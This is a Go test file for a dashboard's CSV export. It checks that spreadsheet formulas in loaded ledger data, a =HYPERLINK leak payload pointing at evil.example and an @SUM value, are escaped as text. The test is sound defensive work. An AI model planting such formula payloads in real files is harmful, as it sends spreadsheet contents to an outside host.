package dashboard_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"testing"

	"jinwei/etl/etltest"
)

// A ledger cell =HYPERLINK(…) loaded from a city's file reaches an analyst's CSV export as
// text (after a '), not as a formula Excel would run; the export's numbers stay numbers.
func TestCSVExportWritesLedgerFormulasAsText(t *testing.T) {
	t.Parallel()
	f := newAuthServer(t)
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")`
	etltest.LoadCSV(t, f.w, "ecology", "formula_ledger.csv", "item_id,region,title,found_date,deadline,status,status_date,responsible_unit\n"+
		`FORMULA-1,兰州市,"`+`=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")`+`",2024-01-05,2024-06-30,整改中,2024-12-31,@SUM(1+1)`+"\n")
	analyst, token := f.signedIn(t, "analyst")
	stmt := "SELECT item_id, title, responsible_unit, -5 AS n, toString(-7) AS s FROM ecology_items WHERE item_id = 'FORMULA-1' LIMIT 1"
	res, err := analyst.PostForm(f.srv.URL+"/api/sql/export", url.Values{"statement": {stmt}, "format": {"csv"}, "_csrf": {token}})
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d %s", res.StatusCode, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV %q: %v", body, err)
	}
	want := []string{"FORMULA-1", "'" + hyperlink, "'@SUM(1+1)", "-5", "-7"}
	for i, w := range want {
		if rows[1][i] != w {
			t.Errorf("column %s = %q, want %q", rows[0][i], rows[1][i], w)
		}
	}
}
